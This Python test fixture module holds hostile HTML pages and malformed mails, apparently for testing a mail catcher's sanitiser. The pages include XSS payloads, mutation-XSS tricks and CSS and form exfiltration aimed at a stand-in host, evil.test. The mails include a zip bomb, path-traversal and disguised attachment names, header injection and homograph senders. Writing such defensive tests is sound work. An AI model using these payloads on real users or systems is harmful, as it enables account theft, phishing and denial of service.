"""Mails and pages that were made to run, to escape, to load, to fool or to tire whoever looks at them."""

from __future__ import annotations

import io
import zipfile
from typing import Final

from tests.catcher.mime.mails import PNG, leaf, mail, multipart

# Each of these runs, submits, loads, or moves the reader elsewhere in a page that does not clean it.
PAGES: Final[dict[str, str]] = {
    "script": "<script>alert(1)</script>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-slash": "<script/x>alert(1)</script>",
    "script-open": "<script>alert(1)",
    "script-nul": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script-newline": "<script\n>alert(1)</script\n>",
    "script-in-attribute": '<p title="</p><script>alert(1)</script>">',
    "script-in-comment": "<!--><script>alert(1)</script>-->",
    "script-in-bang": "<!--!> --!><script>alert(1)</script>",
    "script-in-cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "script-conditional": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "script-remote": "<script src=//evil.test/a.js></script>",
    "script-module": "<script type=module>import('//evil.test/a.js')</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler-slashes": "<img/src=x/onerror=alert(1)//>",
    "handler-unquoted-tail": "<img src=x onerror=alert(1) <p>",
    "handler-tab": "<img src=x\tonerror\t=\talert(1)>",
    "handler-quotes": "<img src='x'onerror='alert(1)'>",
    "handler-case": "<IMG SRC=x OnErRoR=alert(1)>",
    "handler-focus": "<div tabindex=0 autofocus onfocus=alert(1)>x</div>",
    "handler-animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>",
    "handler-toggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "handler-pointer": "<p onpointerrawupdate=alert(1)>x</p>",
    "handler-body": "<body onload=alert(1) onpageshow=alert(1)>x",
    "handler-popover": "<button popovertarget=x>a</button><p popover id=x onbeforetoggle=alert(1)>b</p>",
    "handler-entity": '<p title="&quot; onmouseover=&quot;alert(1)">x</p>',
    "handler-backtick": "<p title=`onmouseover=alert(1)`>x</p>",
    "link-javascript": "<a href=javascript:alert(1)>x</a>",
    "link-javascript-entities": "<a href='&#106;&#x61;vascript&colon;alert(1)'>x</a>",
    "link-javascript-newline": "<a href='java\nscript:alert(1)'>x</a>",
    "link-javascript-entity-tab": "<a href='java&Tab;script:alert(1)'>x</a>",
    "link-javascript-control": "<a href='\x01\x02javascript:alert(1)'>x</a>",
    "link-javascript-long-entity": "<a href='&#0000106avascript:alert(1)'>x</a>",
    "link-data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "link-data-base64": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "link-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link-blob": "<a href='blob:http://x/1'>x</a>",
    "link-ping": "<a href=https://a.example ping=https://evil.test/>x</a>",
    "link-download": "<a href=https://a.example download=x.exe>x</a>",
    "link-area": "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m>",
    "link-xlink": "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "image-javascript": "<img src=javascript:alert(1)>",
    "image-svg-data": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "image-srcset": "<img srcset='http://evil.test/a 2x' src=x>",
    "image-lowsrc": "<img lowsrc=http://evil.test/a dynsrc=http://evil.test/b>",
    "image-picture": "<picture><source srcset=http://evil.test/a><img></picture>",
    "image-input": "<input type=image src=http://evil.test/a>",
    "media": "<video poster=http://evil.test/a src=http://evil.test/b></video><audio src=http://evil.test/c>",
    "track": "<video><track src=http://evil.test/a></video>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "meta-cookie": "<meta http-equiv=Set-Cookie content='a=b'>",
    "base": "<base href=http://evil.test/><a href=x>x</a><img src=y>",
    "base-target": "<base target=_top>",
    "form": "<form action=http://evil.test><input name=password><button>x</button></form>",
    "form-action": "<button form=f formaction=javascript:alert(1)>x</button><form id=f></form>",
    "form-isindex": "<isindex action=http://evil.test prompt=x>",
    "frame": "<iframe src=http://evil.test></iframe>",
    "frame-srcdoc": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "frame-cid": "<iframe src=cid:me></iframe>",
    "frameset": "<frameset><frame src=http://evil.test></frameset>",
    "object": "<object data=http://evil.test type=text/html></object><embed src=http://evil.test>",
    "applet": "<applet code=x archive=http://evil.test></applet>",
    "link-stylesheet": "<link rel=stylesheet href=http://evil.test/a.css>",
    "link-prefetch": "<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>",
    "link-import": "<link rel=import href=http://evil.test>",
    "xml-stylesheet": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "xml-island": "<xml id=x><script>alert(1)</script></xml>",
    "portal": "<portal src=http://evil.test></portal><fencedframe src=http://evil.test></fencedframe>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "svg-set": "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "svg-foreign": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "svg-image": "<svg><image href=http://evil.test/a /></svg>",
    "svg-style": "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style></svg>",
    "svg-filter": "<svg><filter><feImage href=http://evil.test/a /></filter></svg>",
    "math-link": "<math><maction actiontype=statusline#http://x xlink:href=javascript:alert(1)>x</maction></math>",
    "math-href": "<math href=javascript:alert(1)>x</math>",
    "mxss-mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=x&gt;'>",
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mxss-svg-p": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "mxss-svg-desc": "<svg><desc><table><tr><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "mxss-noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mxss-noembed": "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "mxss-noframes": "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "mxss-title": "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "mxss-textarea": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "mxss-xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "mxss-plaintext": "<plaintext><p title='</plaintext><img src=x onerror=alert(1)>'>",
    "mxss-select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "mxss-template": "<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>",
    "mxss-annotation": "<math><annotation-xml encoding=text/html><p><style><!--</style><img src=x onerror=alert(1)>",
    "mxss-comment-in-style": "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "mxss-title-in-svg": "<svg><title><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "mxss-nested-forms": "<form id=a><div></form><form id=b><input form=a></div></form>",
    "mxss-foster": "<table><a href=x><tr><td><style><a title='</style><img src=x onerror=alert(1)>'>",
    "mxss-deep": "<div>" * 600 + "<svg><style><img src=x onerror=alert(1)></style></svg>" + "</div>" * 600,
    "mxss-caption": "<table><caption><svg><style></caption></table><img src=x onerror=alert(1)></style>",
    "clobber": "<a id=location name=cookie></a><img name=body id=documentElement>",
    "css-url": "<p style='background:url(http://evil.test/a)'>x</p>",
    "css-escape": "<p style='background:\\75rl(http://evil.test/a)'>x</p>",
    "css-escape-long": "<p style='background:\\000075 rl(http://evil.test/a)'>x</p>",
    "css-comment": "<p style='background:u/**/rl(http://evil.test/a);background:url(/**/http://evil.test/b)'>x</p>",
    "css-import": "<style>@import 'http://evil.test/a.css';</style>",
    "css-import-escape": "<style>@\\69mport url(http://evil.test/a.css);</style>",
    "css-import-layer": "<style>@import url(//evil.test/a.css) layer(x) supports(a:b);</style>",
    "css-exfiltration": "<style>input[value^='a']{background:url(http://evil.test/?a)}</style>",
    "css-exfiltration-has": "<style>body:has(a[href*='token'])::after{content:url(http://evil.test/t)}</style>",
    "css-font": "<style>@font-face{font-family:x;src:url(http://evil.test/f);unicode-range:U+41}</style>",
    "css-image-set": "<p style='background:image-set(\"http://evil.test/a\" 1x)'>x</p>",
    "css-webkit-image-set": "<style>p{background:-webkit-image-set('//evil.test/a' 1x, url(//evil.test/b) 2x)}</style>",
    "css-cursor": "<style>*{cursor:url(http://evil.test/c),auto}</style>",
    "css-list": "<ul style='list-style-image:url(http://evil.test/l)'><li>x</ul>",
    "css-mask": "<style>p{-webkit-mask:url(http://evil.test/m);clip-path:url(http://evil.test/m#a)}</style>",
    "css-variable": "<style>:root{--a:url(http://evil.test/v)}p{background:var(--a)}</style>",
    "css-expression": "<p style='width:expression(alert(1))'>x</p>",
    "css-behavior": "<p style='behavior:url(http://evil.test/x.htc);-moz-binding:url(http://evil.test/x.xml#a)'>x</p>",
    "css-javascript": "<p style='background:url(javascript:alert(1))'>x</p>",
    "css-closing": "<style>a{content:'</style><script>alert(1)</script>'}</style>",
    "css-closing-comment": "<style>/*</style><script>alert(1)</script>*/</style>",
    "css-charset": "<style>@charset 'utf-7';+ADw-script+AD4-</style>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "open-quote": "<img src='http://evil.test/?<p>secret</p>",
    "open-attribute": '<a href="http://evil.test/?',
    "overlay": "<div style='position:fixed;inset:0;z-index:99999'><a href=https://evil.test>x</a></div>",
}


def _zeroes() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeroes", b"\0" * 20_000_000)
    return target.getvalue()


def _named(name: str) -> bytes:
    return leaf("application/octet-stream", b"x", f"Content-Disposition: attachment; filename*=utf-8''{name}")


_TEXT: Final = leaf("text/plain", b"x")

MAILS: Final[dict[str, bytes]] = {
    "cid-loop": mail(
        multipart(
            "related",
            leaf("text/html", b"<img src=cid:b><iframe src=cid:a>", "Content-ID: <a>"),
            leaf("text/html", b"<img src=cid:a>", "Content-ID: <b>"),
        )
    ),
    "one-id-for-all": mail(
        multipart("related", *[leaf("image/png", PNG, "Content-ID: <a>", encoding="base64")] * 2_000)
    ),
    "ten-thousand-parts": mail(multipart("mixed", *[_TEXT] * 10_000)),
    "a-hundred-messages": leaf("message/rfc822", b"") * 100 + mail(_TEXT),
    "a-hundred-multiparts": mail(
        b"".join(
            f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n".encode() for level in range(100)
        )
        + _TEXT
    ),
    "zip-of-zeroes": mail(leaf('application/zip; name="a.zip"', _zeroes(), encoding="base64")),
    "names": mail(
        multipart(
            "mixed",
            *map(
                _named,
                (
                    "..%2F..%2Fetc%2Fpasswd",
                    "%2Fetc%2Fpasswd",
                    "..%5C..%5Cboot.ini",
                    "C%3A%5Cautoexec.bat",
                    "%E2%80%AEgpj.exe",
                    "a%E2%81%A6fdp.exe",
                    "%D1%80ayment.pdf",
                    "a%00.png",
                    "a%0D%0AX-Evil: 1",
                    "CON",
                    ".htaccess",
                    "%2E%2E",
                    "a" * 5_000,
                    "%F0%9F%92%A9" * 500,
                    "%ED%A0%80.txt",
                    "a.pdf" + "%20" * 200 + ".exe",
                ),
            ),
        )
    ),
    "homographs": 'From: "PayPal <a@paypal.com>" <a@раypal.com>\r\nTo: a@xn--80ak6aa92e.com\r\n'
    "Subject: \u202eevil\u202c \u2066x\r\n\r\nx".encode(),
    "absurd-dates": b"".join(
        b"Date: %s\r\n" % date
        for date in (
            b"Mon, 99 Foo 99999 99:99:99 +9999",
            b"1 Jan 0001 00:00:00 +2359",
            b"31 Dec 9999 23:59:60 -2359",
            b"-1",
            b"1" * 400,
            b"Thu, 01 Jan 1970 00:00:00 -0000",
        )
    )
    + b"From: a@b\r\n\r\nx",
    "smtputf8": "From: Gr\u00fc\u00df <gr\u00fc\u00df@b\u00fccher.example>\r\nSubject: \u65e5\u672c\r\n"
    "Content-Disposition: attachment; filename=\u65e5\u672c.txt\r\n\r\nx".encode(),
    "broken-words": b"Subject: =?utf-8?Q?a b?= =?utf-8?B?w?= =?utf-8?B?A4?=x=?x?= =?utf-8?Q?=ZZ=?= =?utf-8?B?====?=\r\n"
    b"From: =?utf-8?Q?=22a=22_=3Cx=40y=3E?= <real@b>\r\n\r\nx",
    "broken-continuations": leaf(
        "text/plain; name*3=d; name*1*=%ff; name*0*=utf-8''a; name*0=b; name*99999=x; name*=''; charset*=x'y", b"x"
    ),
    "delivery-report": mail(
        multipart("report", leaf("message/delivery-status", b"\r\n\r\nAction:\r\nFinal-Recipient\r\n;;;\0\r\n\r\n"))
    ),
    "calendar": mail(
        leaf("text/calendar; method=\0", b'BEGIN:VCALENDAR\nBEGIN:VEVENT\nRRULE:FREQ=SECONDLY\nDTSTART:9\nX;Y="\nEND:X')
    ),
    "tnef": mail(leaf("application/ms-tnef", b"\x78\x9f\x3e\x22" + b"\xff" * 999, encoding="base64")),
    "signature": mail(
        multipart("signed", _TEXT, leaf("application/pkcs7-signature", b"\x30\x84\xff\xff", encoding="base64"))
    ),
}
